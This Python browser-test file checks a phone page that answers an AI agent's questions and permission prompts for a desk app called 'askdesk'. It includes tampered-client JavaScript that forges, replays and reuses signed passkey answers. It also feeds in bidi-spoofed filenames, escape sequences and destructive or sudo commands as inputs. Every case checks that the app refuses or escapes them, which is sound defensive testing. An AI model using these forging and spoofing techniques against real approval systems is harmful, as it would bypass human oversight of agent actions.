"""tests/remote/test_remote.py: the phone's page in a real browser against a real desk.

Each test starts `askdesk serve` and `askdesk remote --pair` in a private home, pairs a headless
Chromium (a 390x844 touch screen that trusts the desk's authority through NSS) through the page,
with the code the page shows typed into the remote's stdin, then asks questions as an agent over
the broker's socket and answers them by touching the page. `python3 -m unittest -k NAME` runs one.
REMOTE_SCREENSHOTS=DIR saves the page's screenshots there (docs/ keeps the published ones).
"""
import base64
import hashlib
import json
import os
import re
import shutil
import socket
import ssl
import tempfile
import time
import unittest

from phone import PATIENCE, Browser, Desk, open_pairing, pair_page, until

SHOTS = os.environ.get("REMOTE_SCREENSHOTS")
NAME = "Test phone"
# A time of day as the page writes it in English (`timeStyle: 'short'`): 14:05, or 2:05 PM.
TIME = r"\d{1,2}:\d\d(?:\s?[AP]M)?"

# A device socket of the page's own origin, opened in the page with the key the page stored: what
# a tampered page (or a script on the phone) could send. `window.rawDevice()` resolves to
# { requests, send(message) -> Promise<reply>, sign(value), digest(wire), next(type or test), b64u,
# socket }.
RAW_DEVICE = r"""
window.rawDevice = async () => {
  const key = await new Promise((resolve, reject) => {
    const open = indexedDB.open('askdesk', 1);
    open.onsuccess = () => {
      const get = open.result.transaction('device').objectStore('device').get('key');
      get.onsuccess = () => resolve(get.result);
      get.onerror = () => reject(get.error);
    };
    open.onerror = () => reject(open.error);
  });
  const b64u = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
  const canonical = (v) => Array.isArray(v) ? `[${v.map(canonical).join(',')}]`
    : v && typeof v === 'object' ? `{${Object.keys(v).sort().map((k) => `${JSON.stringify(k)}:${canonical(v[k])}`).join(',')}}`
    : JSON.stringify(v);
  const enc = new TextEncoder();
  const sign = async (value) => b64u(await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, key.privateKey, enc.encode(canonical(value))));
  const digest = async (w) => b64u(await crypto.subtle.digest('SHA-256', enc.encode(canonical(
    { agent: w.agent ? w.agent.id : null, id: w.id, key: w.key, kind: 'askdesk/request', questions: w.questions, v: 1 }))));
  const socket = new WebSocket(`wss://${location.host}/socket`);
  const inbox = [];
  let wake = null;
  socket.onmessage = (e) => { inbox.push(JSON.parse(e.data)); if (wake) wake(); };
  const next = async (type) => {
    const wanted = typeof type === 'function' ? type : (m) => !type || m.type === type;
    for (;;) {
      const at = inbox.findIndex(wanted);
      if (at >= 0) return inbox.splice(at, 1)[0];
      await new Promise((resolve) => { wake = resolve; });
    }
  };
  const challenge = await next('challenge');
  socket.send(JSON.stringify({ type: 'hello', publicKey: key.publicKey,
    signature: await sign({ challenge: challenge.challenge, kind: 'askdesk/hello', origin: location.origin, v: 1 }) }));
  const welcome = await next();
  if (welcome.type !== 'welcome') return { refused: welcome };
  const requests = (await next('requests')).requests;
  return { requests, sign, digest, socket, next, b64u,
    send: async (message) => { socket.send(JSON.stringify(message)); for (;;) { const m = await next(); if (m.type === 'accepted' || m.type === 'refused') return m; } } };
};
"""


def question(qid, text, options=(), multi=False, **extra):
    q = {"id": qid, "question": text, **extra}
    if options:
        q["options"] = [o if isinstance(o, dict) else {"label": o} for o in options]
    if multi:
        q["multiSelect"] = True
    return q


PLAN = """# Move the cache to disk

## Steps
1. Write entries to `~/.cache/askdesk`, one file per key.
2. Read them back on start; drop files older than a week.
3. Keep the in-memory cache for the current run.

## Risks
- A full disk: writes fail and are **logged**, never fatal.

```rust
fn path(key: &str) -> PathBuf { cache_dir().join(key) }
```
"""


def plan_question(qid="plan"):
    return question(qid, "Approve this plan?", ["Approve", "Keep planning"], header="Plan",
                    detail=PLAN, intent={"kind": "plan-review", "approve": "Approve"})


class PhoneTest(unittest.TestCase):
    """A desk and a phone paired through the page."""

    pair_first = True
    # What `askdesk remote` is started with besides its address.
    remote_args = ()
    # The language the desk runs in (ASKDESK_LANG).
    language = "en"

    def setUp(self):
        self.desk = Desk(self.language)
        self.addCleanup(self.desk.close)
        self.url = self.desk.start_remote(*self.remote_args)
        self.browser = self.phone()
        if self.pair_first:
            self.pair(self.browser)

    def phone(self, dark=False):
        browser = Browser(self.desk, dark=dark)
        self.addCleanup(browser.close)
        return browser

    def open_pairing(self, browser, url=None, name=NAME):
        open_pairing(browser, url or self.url, name)

    def pair(self, browser):
        pair_page(self.desk, browser, self.url, NAME)

    def ask(self, questions, agent=None):
        """Asks as an agent (registered with `agent` as its label and meta); returns (conn, request id)."""
        conn = self.desk.connect("agent")
        params = {"questions": questions}
        if agent is not None:
            handle = conn.call("agents/register", {"id": f"agent-{time.monotonic_ns()}", **agent})
            params["agent"] = handle
        self.addCleanup(conn.close)
        return conn, conn.start("user-questions/ask", params)

    def note_of_newest(self, pattern):
        return until(f"the newest card says {pattern!r}: {self.browser.text('.request:first-child')!r}",
                     lambda: re.fullmatch(pattern, self.browser.text(".request:first-child .note")))

    def card(self, selector=""):
        return f".request {selector}".strip()

    def shot(self, browser, name):
        if SHOTS:
            os.makedirs(SHOTS, exist_ok=True)
            browser.evaluate("document.activeElement && document.activeElement.blur()")
            browser.evaluate("window.scrollTo(0, 0)")
            browser.screenshot(os.path.join(SHOTS, name))


class Pairing(PhoneTest):
    pair_first = False

    def test_a_phone_pairs_through_the_page_with_the_code_typed_at_the_desk(self):
        self.pair(self.browser)
        devices = self.desk.cli("devices", "list")
        self.assertIn(NAME, devices.stdout)
        # The key is kept in IndexedDB, not extractable; only the public half is kept as text.
        extractable = self.browser.evaluate("""new Promise((resolve) => {
            indexedDB.open('askdesk', 1).onsuccess = (e) => {
              e.target.result.transaction('device').objectStore('device').get('key').onsuccess =
                (g) => resolve([g.target.result.privateKey.extractable, g.target.result.privateKey.type]);
            };
        })""")
        self.assertEqual(extractable, [False, "private"])
        # The fragment's token does not stay in the address bar.
        self.assertEqual(self.browser.evaluate("location.href"), f"{self.desk.origin}/")
        # The page was served over HTTPS the browser trusts: a secure context.
        self.assertTrue(self.browser.evaluate("window.isSecureContext"))

    def test_a_used_pairing_link_is_refused_on_a_second_phone(self):
        self.pair(self.browser)
        other = self.phone()
        self.open_pairing(other, name="Thief")
        other.wait_text("already used")
        self.assertNotIn("Thief", self.desk.cli("devices", "list").stdout)

    def test_an_expired_pairing_link_is_refused(self):
        self.desk.stop_remote()
        url = self.desk.start_remote("--pair-lifetime", "1")
        self.browser.goto(url)
        self.browser.wait_text("Pair with this desk")
        # The desk gives up waiting for a claim once the offer's lifetime has passed.
        until("the remote says the offer expired", lambda: "the offer expired" in self.desk.remote_log())
        self.browser.tap("#pair")
        self.browser.wait_text("expired")
        self.assertNotIn(NAME, self.desk.cli("devices", "list").stdout)

    def test_a_wrong_code_at_the_desk_pairs_nothing(self):
        self.open_pairing(self.browser)
        code = until("the page shows the code", lambda: self.browser.evaluate(
            "(document.getElementById('pair-code') || {}).textContent"))
        wrong = f"{(int(code.replace(' ', '')) + 1) % 1000000:06}"
        self.desk.expect_line(f'"{NAME}" asks to pair')
        self.desk.type_code(wrong)
        until("the remote says the pairing failed", lambda: "Pairing failed" in self.desk.remote_log())
        self.assertNotIn(NAME, self.desk.cli("devices", "list").stdout)
        # The phone's key opens no socket.
        self.browser.evaluate(RAW_DEVICE)
        refused = self.browser.evaluate("rawDevice().then((d) => d.refused)")
        self.assertEqual(refused, {"type": "refused", "reason": "not-paired"})
        self.assertNotIn("Connected", self.browser.text("#status"))


class Language(PhoneTest):
    """The phone speaks the language the desk runs in, and never translates an agent's words."""

    pair_first = False
    language = "zh-CN"

    def test_the_phone_page_speaks_chinese_when_the_desk_runs_in_chinese(self):
        b = self.browser
        b.goto(self.url)
        b.wait_text("与这台电脑配对")
        self.assertEqual(b.evaluate("document.documentElement.lang"), "zh-CN")
        self.assertEqual(b.text("#pair"), "配对这部手机")
        b.evaluate(f"document.getElementById('device-name').value = {json.dumps(NAME)}")
        b.tap("#pair")
        code = until("the page shows the code", lambda: b.evaluate(
            "(document.getElementById('pair-code') || {}).textContent"))
        b.wait_text("在电脑上确认")
        # The desk's own terminal speaks the same language.
        self.desk.expect_line(f"“{NAME}”请求配对")
        self.desk.type_code(code.replace(" ", ""))
        self.desk.expect_line(f"已配对“{NAME}”")
        b.wait_text(f"已连接为 {NAME}", "#status")
        b.wait_text("没有等待中的请求。")
        conn, rid = self.ask([question("db", "Which database should the cache use?", [
            {"label": "SQLite (Recommended)", "description": "One file, no server."}, "Postgres"])],
            agent={"label": "Claude Code", "meta": {"cwd": "/home/dana/src/askdesk"}})
        b.wait_text("Which database should the cache use?")
        # The agent's words stay as written; the page's own are Chinese.
        self.assertIn("One file, no server.", b.text("[data-question=db] .option.recommended"))
        self.assertEqual(b.text("[data-question=db] .option.recommended .option-label"), "SQLite")
        self.assertEqual(b.text("[data-question=db] .option.recommended .badge"), "推荐")
        self.assertEqual(b.text(".request .send"), "发送")
        self.assertEqual(b.text(".request .dismiss"), "忽略")
        self.assertEqual(b.text("[data-question=db] .skip"), "跳过")
        self.assertEqual(b.evaluate("document.querySelector('[data-question=db] textarea').placeholder"), "其他…")
        self.shot(b, "phone-question-zh-CN.png")
        b.tap('[data-question=db] [data-label="SQLite (Recommended)"]')
        b.tap(".request .send")
        self.assertEqual(conn.wait(rid), {"answers": [{"id": "db", "selected": ["SQLite (Recommended)"]}]})
        self.note_of_newest(r"已发送 \d{1,2}:\d\d 移除")
        # The certificate authority's page and the installed page's description too.
        ca = b.evaluate("fetch('/ca').then((r) => r.text())")
        self.assertIn("信任这台电脑", ca)
        manifest = b.evaluate("fetch('/manifest.webmanifest').then((r) => r.json())")
        self.assertEqual(manifest["description"], "回答你的代理在电脑上提出的问题。")


class Answers(PhoneTest):

    def test_each_question_kind_is_answered_from_the_phone(self):
        questions = [
            question("db", "Which database should the cache use?", [
                {"label": "SQLite (Recommended)", "description": "One file, no server, already a dependency."},
                {"label": "Postgres", "description": "Shared with the web service; needs a running server."},
                {"label": "Files", "description": "One file per entry."}], header="Storage"),
            question("targets", "Which platforms should the release build?", ["Linux", "macOS", "Windows"], multi=True),
            question("name", "What should the command be called?", ["sync", "push"]),
            question("notes", "Anything else the agent should know?"),
            question("later", "Run the benchmarks now?", ["Yes", "No"]),
        ]
        conn, rid = self.ask(questions, agent={"label": "Claude Code", "meta": {"cwd": "/home/dana/src/askdesk"}})
        b = self.browser
        b.wait_text("Which database should the cache use?")
        self.assertIn("Claude Code", b.text(".card-head"))
        self.assertIn("askdesk", b.text(".card-head .project"))
        self.assertEqual(b.text("[data-question=db] .option.recommended .badge"), "Recommended")
        self.assertIn("One file, no server", b.text("[data-question=db] .option.recommended"))
        b.color_scheme("dark")
        self.shot(b, "phone-question.png")
        b.color_scheme("light")
        b.tap('[data-question=db] [data-label="SQLite (Recommended)"]')
        b.tap('[data-question=targets] [data-label="Linux"]')
        b.tap('[data-question=targets] [data-label="Windows"]')
        b.type("[data-question=targets] textarea", "and FreeBSD")
        b.tap('[data-question=name] [data-label="sync"]')
        b.type("[data-question=name] textarea", "askdesk-sync")
        b.type("[data-question=notes] textarea", "Keep the old flag working.")
        b.tap("[data-question=later] .skip")
        b.tap(".request .send")
        b.wait_text("Sent", ".request .note")
        self.assertEqual(conn.wait(rid), {"answers": [
            {"id": "db", "selected": ["SQLite (Recommended)"]},
            {"id": "targets", "selected": ["Linux", "Windows"], "custom": "and FreeBSD"},
            {"id": "name", "selected": [], "custom": "askdesk-sync"},
            {"id": "notes", "selected": [], "custom": "Keep the old flag working."},
            {"id": "later", "selected": []},
        ]})

    def test_dismissing_on_the_phone_cancels_the_ask(self):
        conn, rid = self.ask([question("go", "Deploy now?", ["Yes", "No"])])
        self.browser.wait_text("Deploy now?")
        self.browser.tap(".request .dismiss")
        self.browser.wait_text("Sent", ".request .note")
        with self.assertRaises(Exception) as raised:
            conn.wait(rid)
        self.assertEqual(raised.exception.data.get("code"), "ASK_CANCELLED")

    def test_a_plan_is_approved_or_sent_back_from_the_phone(self):
        conn, rid = self.ask([plan_question()], agent={"label": "Codex", "meta": {"cwd": "/home/dana/src/cache"}})
        b = self.browser
        b.wait_text("Move the cache to disk")
        # The plan is the desk's rendering: its blocks carry the desk's keys, its code the desk's highlighting.
        self.assertTrue(b.evaluate("document.querySelectorAll('.plan-review .md [data-block]').length > 5"))
        self.assertTrue(b.evaluate("!!document.querySelector('.plan-review .md h1[id^=md-]')"))
        self.assertTrue(b.evaluate("!!document.querySelector('.plan-review .md pre code span[class^=hl-]')"))
        self.shot(b, "phone-plan.png")
        b.tap(".request .approve")
        b.wait_text("Sent", ".request .note")
        self.assertEqual(conn.wait(rid), {"answers": [{"id": "plan", "selected": ["Approve"]}]})

        conn, rid = self.ask([plan_question()])
        until("the second plan is shown", lambda: b.evaluate("document.querySelectorAll('.request').length") == 2)
        b.type(".request:first-child .feedback", "Keep the files under XDG_CACHE_HOME.")
        b.tap(".request:first-child .send-feedback")
        b.wait_text("Sent", ".request:first-child .note")
        self.assertEqual(conn.wait(rid), {"answers": [
            {"id": "plan", "selected": [], "custom": "Keep the files under XDG_CACHE_HOME."}]})

    def test_a_revised_plan_shows_the_desks_changes_since_the_version_before(self):
        agent = {"label": "Codex", "meta": {"cwd": "/home/dana/src/cache", "session": "cache-plan"}}
        conn, rid = self.ask([plan_question()], agent=agent)
        b = self.browser
        b.wait_text("Move the cache to disk")
        self.assertIsNone(b.evaluate("document.querySelector('.request .revision')"))
        b.type(".request .feedback", "Write atomically, and say how old files go.")
        b.tap(".request .send-feedback")
        b.wait_text("Sent", ".request .note")
        conn.wait(rid)
        revised = (PLAN.replace("one file per key.", "one file per key, written atomically.")
                   .replace("3. Keep the in-memory cache for the current run.\n",
                            "3. Keep the in-memory cache for the current run.\n"
                            "4. Expire files older than a week at start.\n")
                   .replace("- A full disk: writes fail and are **logged**, never fatal.\n", ""))
        conn, rid = self.ask([question("plan", "Approve this plan?", ["Approve", "Keep planning"], header="Plan",
                                       detail=revised, intent={"kind": "plan-review", "approve": "Approve"})],
                             agent=agent)
        until("the revised plan is shown", lambda: b.evaluate("document.querySelectorAll('.request').length") == 2)
        newest = ".request:first-child"
        self.assertRegex(b.text(f"{newest} .revision"), r"^Version 2 · Changes since version 1 \+\d+ −\d+$")
        def marked(status):
            return b.evaluate(f"[...document.querySelectorAll('{newest} .md .diff-{status}')]"
                              ".map((e) => e.textContent).join(' | ')")
        self.assertIn("written atomically", marked("changed"))
        self.assertIn("Expire files", marked("added"))
        self.assertIn("A full disk", marked("removed"))
        self.assertTrue(b.evaluate(f"!!document.querySelector('{newest} .diff-changed .word-diff ins')"))
        self.shot(b, "phone-plan-revision.png")
        b.tap(f"{newest} .approve")
        self.assertEqual(conn.wait(rid), {"answers": [{"id": "plan", "selected": ["Approve"]}]})

    def test_comments_on_blocks_of_a_plan_go_back_quoted_in_the_feedback(self):
        conn, rid = self.ask([plan_question()])
        b = self.browser
        b.wait_text("Move the cache to disk")
        step = b.evaluate("""(() => {
            const li = [...document.querySelectorAll('.plan-review .md li[data-block]')]
              .find((e) => e.textContent.startsWith('Read them back'));
            return li.dataset.block;
        })()""")
        b.tap(f'.plan-review .md [data-block="{step}"]')
        b.type(f'.comments textarea[data-block="{step}"]', "Only on the first start of the day.")
        # An approval cannot carry comments: the page says so and sends nothing.
        b.tap(".request .approve")
        b.wait_text("Comments go back as feedback", ".request .note")
        b.type(".request .feedback", "Otherwise good.")
        b.tap(".request .send-feedback")
        b.wait_text("Sent", ".request .note")
        custom = conn.wait(rid)["answers"][0]["custom"]
        self.assertIn("Steps", custom)
        self.assertIn("> Read them back on start; drop files older than a week.", custom)
        self.assertIn("Only on the first start of the day.", custom)
        self.assertTrue(custom.rstrip().endswith("Otherwise good."), custom)

    def test_requests_are_listed_newest_on_top(self):
        self.ask([question("a", "The first question?", ["Yes"])])
        self.browser.wait_text("The first question?")
        self.ask([question("b", "The second question?", ["Yes"])])
        self.browser.wait_text("The second question?")
        self.assertEqual(self.browser.evaluate(
            "[...document.querySelectorAll('.request .question-text')].map((e) => e.textContent)"),
            ["The second question?", "The first question?"])

    def test_bidi_and_control_characters_are_shown_escaped(self):
        self.ask([question("x", "Run invoice_\u202efdp.exe\u0007 now?", ["Yes \u2066(safe)\u2069", "No"])],
                 agent={"label": "Agent\u200f\u001b[2J", "meta": {"cwd": "/tmp/pro\u202eject"}})
        b = self.browser
        b.wait_text("invoice_")
        page = b.text("#requests")
        self.assertIn("Run invoice_\\u{202e}fdp.exe\\u{7} now?", page)
        self.assertIn("Yes \\u{2066}(safe)\\u{2069}", page)
        self.assertIn("Agent\\u{200f}\\u{1b}[2J", page)
        self.assertIn("pro\\u{202e}ject", page)
        for raw in "\u202e\u2066\u2069\u200f\u0007\u001b":
            self.assertNotIn(raw, page)

    def test_a_permission_prompt_outside_the_scope_is_not_offered_to_the_phone(self):
        conn, rid = self.ask([question("allow", "Allow Bash: rm -rf build?", ["Allow", "Deny"])],
                             agent={"label": "Claude Code", "meta": {"tool": "Bash"}})
        # The default scope stops below permission prompts: with no other answerer the prompt runs
        # off the end of the chain at once.
        with self.assertRaises(Exception):
            conn.wait(rid)
        conn2, rid2 = self.ask([question("q", "An ordinary question?", ["Yes"])])
        self.browser.wait_text("An ordinary question?")
        self.assertNotIn("rm -rf", self.browser.text("#requests"))


# The passkey part of a tampered page: a challenge bound to an answer, an assertion from the
# browser's authenticator (with the user verification asked for), a signed answer carrying it.
PASSKEY_HELPERS = r"""
window.passkeyHelpers = (() => {
  const b64u = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
  const unb64u = (text) => Uint8Array.from(atob(text.replace(/-/g, '+').replace(/_/g, '/')), (c) => c.charCodeAt(0));
  const nonce = () => b64u(crypto.getRandomValues(new Uint8Array(16)));
  const challenge = (d, w, n, answer) => {
    d.socket.send(JSON.stringify({ type: 'passkey-challenge', id: w.id, nonce: n, answer }));
    return d.next((m) => (m.type === 'passkey-challenge' || m.type === 'passkey-refused') && m.id === w.id);
  };
  const assert = async (options, userVerification = 'required') => {
    const o = options.publicKey;
    const got = await navigator.credentials.get({ publicKey: { challenge: unb64u(o.challenge), rpId: o.rpId,
      allowCredentials: o.allowCredentials.map((c) => ({ type: 'public-key', id: unb64u(c.id) })), userVerification } });
    return { id: got.id, rawId: b64u(got.rawId), type: got.type, response: {
      authenticatorData: b64u(got.response.authenticatorData), clientDataJSON: b64u(got.response.clientDataJSON),
      signature: b64u(got.response.signature), userHandle: got.response.userHandle ? b64u(got.response.userHandle) : null } };
  };
  const signed = async (d, w, n, answer, passkey) => {
    const digest = await d.digest(w);
    return { type: 'answer', id: w.id, nonce: n, answer, digest, passkey,
      signature: await d.sign({ answer, digest, kind: 'askdesk/answer', nonce: n, v: 1 }) };
  };
  return { nonce, challenge, assert, signed };
})();
"""

PROMPT_OPTIONS = ["Allow once", "Always allow in this session", "Deny"]


def chose(label, qid="allow"):
    return {"answers": [{"id": qid, "selected": [label]}]}


class Passkeys(PhoneTest):
    """Permission prompts on the phone, served under a name (browsers use passkeys only there),
    with a virtual authenticator (CTAP2, built in, with user verification) standing in for the
    phone's fingerprint reader."""

    remote_args = ("--name", "localhost")

    def setUp(self):
        super().setUp()
        b = self.browser
        b.page("WebAuthn.enable", {"enableUI": False})
        self.authenticator = b.page("WebAuthn.addVirtualAuthenticator", {"options": {
            "protocol": "ctap2", "transport": "internal", "hasResidentKey": True,
            "hasUserVerification": True, "isUserVerified": True, "automaticPresenceSimulation": True,
        }})["authenticatorId"]
        scoped = self.desk.cli("devices", "scope", NAME, "--up-to", "permission-prompt")
        self.assertEqual(scoped.returncode, 0, scoped.stderr)
        self.project = tempfile.mkdtemp(dir=self.desk.dir)

    def register(self):
        """Adds the phone's passkey through the page, in the window the pairing opened."""
        self.browser.tap("#passkey-register")
        self.browser.wait_text("Passkey added", "#passkey-card")

    def prompt(self, command, options=PROMPT_OPTIONS):
        """Asks a Bash permission prompt for `command`, as `askdesk hook` does."""
        return self.ask([question("allow", "Allow this command?", options)],
                        agent={"label": "Claude Code", "meta": {"tool": "Bash", "command": command, "cwd": self.project}})

    def raw(self, script):
        """Runs `script` (an async function body over `d`, the tampered page's device, and `p`, its
        passkey helpers) in the page and returns its result."""
        self.browser.evaluate(RAW_DEVICE)
        self.browser.evaluate(PASSKEY_HELPERS)
        return self.browser.evaluate(f"(async () => {{ const d = await rawDevice(); const p = passkeyHelpers; {script} }})()")

    def test_a_permission_prompt_is_allowed_from_the_phone_with_its_passkey(self):
        b = self.browser
        self.register()
        command = " ".join(["cargo build"] + [f"--features step{i}" for i in range(60)] + ["--release"])
        conn, rid = self.prompt(command)
        b.wait_text("Working directory", ".request.permission")
        card = b.text(".request.permission")
        for shown in ("Bash", self.project, "Claude Code"):
            self.assertIn(shown, card)
        # A long command: its head and tail; the whole behind a tap.
        short = b.text(".request.permission .command.short")
        self.assertTrue(short.startswith("cargo build --features step0 "), short)
        self.assertTrue(short.endswith("--features step59 --release"), short)
        self.assertNotIn("step30 ", short)
        self.assertTrue(b.evaluate("document.querySelector('.request.permission .command.whole').hidden"))
        b.tap(".request.permission .show-command")
        self.assertFalse(b.evaluate("document.querySelector('.request.permission .command.whole').hidden"))
        self.assertEqual(b.text(".request.permission .command.whole"), command)
        # A standing permission is shown, but only the desk gives it.
        self.assertTrue(b.evaluate(
            "document.querySelector('.request.permission [data-label=\"Always allow in this session\"]').disabled"))
        self.shot(b, "phone-permission.png")
        b.tap('.request.permission [data-label="Allow once"]')
        b.wait_text("Sent", ".request.permission .note")
        self.assertEqual(conn.wait(rid), chose("Allow once"))

    def test_a_prompt_of_several_questions_is_answered_whole_from_the_phone(self):
        # `AskUserQuestion` through the hook: a permission prompt (its meta names the tool) that
        # asks several questions; every one is answered on the phone and the desk checks them all.
        b = self.browser
        self.register()
        conn, rid = self.ask([
            question("q1", "Which database?", ["SQLite", "Postgres"]),
            question("q2", "Which platforms?", ["Linux", "macOS", "Windows"], multi=True),
            question("q3", "Anything else?"),
        ], agent={"label": "Claude Code", "meta": {"tool": "AskUserQuestion", "cwd": self.project}})
        b.wait_text("Which platforms?", ".request.permission")
        self.assertIn("Anything else?", b.text(".request.permission"))
        b.tap('.request.permission [data-question=q1] [data-label="Postgres"]')
        b.tap('.request.permission [data-question=q2] [data-label="Linux"]')
        b.tap('.request.permission [data-question=q2] [data-label="Windows"]')
        b.type(".request.permission [data-question=q3] textarea", "Keep the old flag.")
        b.tap(".request.permission .send")
        b.wait_text("Sent", ".request.permission .note")
        self.assertEqual(conn.wait(rid), {"answers": [
            {"id": "q1", "selected": ["Postgres"]},
            {"id": "q2", "selected": ["Linux", "Windows"]},
            {"id": "q3", "selected": [], "custom": "Keep the old flag."},
        ]})

    def test_a_passkey_without_user_verification_allows_nothing(self):
        b = self.browser
        self.register()
        b.page("WebAuthn.setUserVerified", {"authenticatorId": self.authenticator, "isUserVerified": False})
        conn, rid = self.prompt("cargo test")
        b.wait_text("cargo test", ".request.permission")
        b.tap('.request.permission [data-label="Allow once"]')
        b.wait_text("Not sent", ".request.permission .note")
        # The card is usable again, but a standing option stays the desk's.
        self.assertFalse(b.evaluate("document.querySelector('.request.permission [data-label=\"Deny\"]').disabled"))
        self.assertTrue(b.evaluate(
            "document.querySelector('.request.permission [data-label=\"Always allow in this session\"]').disabled"))
        # A page that does not ask for user verification: the remote itself refuses what it gets.
        outcome = self.raw("""
          const w = d.requests[0];
          const n = p.nonce();
          const answer = { answers: [{ id: 'allow', selected: ['Allow once'] }] };
          const options = await p.challenge(d, w, n, answer);
          const passkey = await p.assert(options.options, 'discouraged');
          // The authenticator's flags (byte 32 of its data): UV is 0x04.
          const flags = atob(passkey.response.authenticatorData.replace(/-/g, '+').replace(/_/g, '/')).charCodeAt(32);
          return { verified: (flags & 4) !== 0, remote: (await d.send(await p.signed(d, w, n, answer, passkey))).reason };
        """)
        self.assertEqual(outcome, {"verified": False, "remote": "bad-passkey"})
        # Nothing was allowed: the agent still waits, and the phone may still deny.
        b.tap('.request.permission [data-label="Deny"]')
        b.wait_text("Sent", ".request.permission .note")
        self.assertEqual(conn.wait(rid), chose("Deny"))

    def test_no_way_around_the_passkey_allows_from_the_phone(self):
        b = self.browser
        self.register()
        conn, rid = self.prompt("cargo test")
        conn2, rid2 = self.prompt("cargo build")
        desk_only, desk_only_rid = self.prompt("sudo make install \u202e#\u0007")
        until("the three prompts are shown", lambda: b.evaluate("document.querySelectorAll('.request.permission').length") == 3)
        # The desk-only command is shown read-only, with the desk's reason.
        sudo = b.evaluate("""[...document.querySelectorAll('.request.permission')]
            .find((c) => c.textContent.includes('sudo')).querySelectorAll('button:not(.close)').length""")
        self.assertEqual(sudo, 0)
        self.assertIn("Only the desk may answer this: ", b.text("#requests"))
        # Its command as the command line shows it: control and bidi characters as code points.
        self.assertIn("sudo make install \\u{202e}#\\u{7}", b.text("#requests"))
        self.assertNotIn("\u202e", b.text("#requests"))
        outcome = self.raw("""
          const [test, build, sudo] = ['cargo test', 'cargo build', 'sudo'].map((c) => d.requests.find((r) => r.agent.meta.command.startsWith(c)));
          const allow = { answers: [{ id: 'allow', selected: ['Allow once'] }] };
          const out = {};
          // No assertion.
          out.none = (await d.send(await p.signed(d, test, p.nonce(), allow))).reason;
          // A desk-only command gets no challenge.
          out.deskOnly = (await p.challenge(d, sudo, p.nonce(), allow)).reason;
          // A standing permission, even with a good assertion.
          const always = { answers: [{ id: 'allow', selected: ['Always allow in this session'] }] };
          let n = p.nonce();
          let options = await p.challenge(d, test, n, always);
          out.standing = (await d.send(await p.signed(d, test, n, always, await p.assert(options.options)))).reason;
          // The assertion of another request.
          n = p.nonce();
          options = await p.challenge(d, build, n, allow);
          const forBuild = await p.assert(options.options);
          const n2 = p.nonce();
          await p.challenge(d, test, n2, allow);
          out.otherRequest = (await d.send(await p.signed(d, test, n2, allow, forBuild))).reason;
          // The assertion asked over one answer, sent with another.
          n = p.nonce();
          options = await p.challenge(d, test, n, { answers: [{ id: 'allow', selected: ['Deny'] }] });
          out.otherAnswer = (await d.send(await p.signed(d, test, n, allow, await p.assert(options.options)))).reason;
          // A good one, then the same message replayed.
          n = p.nonce();
          options = await p.challenge(d, test, n, allow);
          const good = await p.signed(d, test, n, allow, await p.assert(options.options));
          out.good = (await d.send(good)).type;
          out.replayed = (await d.send(good)).reason;
          // Its assertion, for the next request under a fresh challenge.
          n = p.nonce();
          await p.challenge(d, build, n, allow);
          out.reused = (await d.send(await p.signed(d, build, n, allow, good.passkey))).reason;
          // A second passkey: the desk's window closed with the first.
          d.socket.send(JSON.stringify({ type: 'passkey-register' }));
          out.register = (await d.next('passkey-refused')).reason;
          return out;
        """)
        self.assertEqual(outcome, {
            "none": "passkey-required", "deskOnly": "desk-only", "standing": "standing",
            "otherRequest": "bad-passkey", "otherAnswer": "bad-passkey", "good": "accepted",
            "replayed": "not-pending", "reused": "bad-passkey", "register": "passkey-not-allowed"})
        self.assertEqual(conn.wait(rid), chose("Allow once"))
        # The desk allows a new passkey: the page offers it again.
        allowed = self.desk.cli("devices", "passkey", NAME)
        self.assertEqual(allowed.returncode, 0, allowed.stderr)
        b.wait_text("Replace this phone's passkey", "#passkey-card")
        # The build prompt was never allowed: it still waits for an answer.
        conn2.notify("$/cancelRequest", {"id": rid2})
        with self.assertRaises(Exception) as raised:
            conn2.wait(rid2)
        self.assertEqual(raised.exception.data.get("code"), "ASK_ABORTED")


# A 3×2 PNG, and one whose header claims 9000×9000 pixels (over the desk's 8192 a side).
PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAMAAAACCAIAAAASFvFNAAAAEElEQVR4nGM4YRMFQQxwFgBUsAg1nqIGFQAAAABJRU5ErkJggg=="
PICTURE_9000 = "iVBORw0KGgoAAAANSUhEUgAAIygAACMoCAYAAABt1XK6AAAAAElEQVQ1rwYeAAAAAElFTkSuQmCC"


def png_size(data):
    """The width and height a PNG (base64) says in its header."""
    raw = base64.b64decode(data)
    assert raw.startswith(b"\x89PNG\r\n\x1a\n"), raw[:8]
    return int.from_bytes(raw[16:20], "big"), int.from_bytes(raw[20:24], "big")


class Pictures(PhoneTest):
    """The phone answers with a picture: the desk re-encodes it, or refuses it naming the limit."""

    def note_becomes(self, text):
        until(f"the card's note says {text!r}: {self.browser.text('.request .note')!r}",
              lambda: self.browser.text(".request .note") == text)

    def picture_file(self, name, data):
        folder = tempfile.mkdtemp(prefix="askdesk-picture-")
        self.addCleanup(shutil.rmtree, folder)
        path = os.path.join(folder, name)
        with open(path, "wb") as f:
            f.write(base64.b64decode(data))
        return path

    def test_a_picture_from_the_phone_reaches_the_agent_as_a_desk_picture(self):
        conn, rid = self.ask([question("layout", "Which layout reads better?", ["Sidebar", "Top bar"])])
        b = self.browser
        b.wait_text("Which layout reads better?")
        b.tap('[data-question=layout] [data-label="Sidebar"]')
        self.assertEqual(b.evaluate("document.querySelector('[data-question=layout] .picture-input').accept"), "image/*")
        b.choose_files("[data-question=layout] .picture-input", [self.picture_file("shot.png", PICTURE)])
        b.wait_text("shot.png", "[data-question=layout] .pictures")
        # A picture is Other's, as typed text is: the single choice gives way to it.
        self.assertEqual(b.evaluate("document.querySelector('[data-label=\"Sidebar\"]').getAttribute('aria-pressed')"),
                         "false")
        b.type("[data-question=layout] textarea", "Like this, but narrower")
        b.tap(".request .send")
        b.wait_text("Sent", ".request .note")
        (item,) = conn.wait(rid)["answers"]
        self.assertEqual((item["id"], item["selected"], item["custom"]), ("layout", [], "Like this, but narrower"))
        (image,) = item["images"]
        # Re-encoded by the desk: a PNG as every desk picture is, with nothing else.
        self.assertEqual(set(image), {"mime", "data"})
        self.assertEqual(image["mime"], "image/png")
        self.assertEqual(png_size(image["data"]), (3, 2))

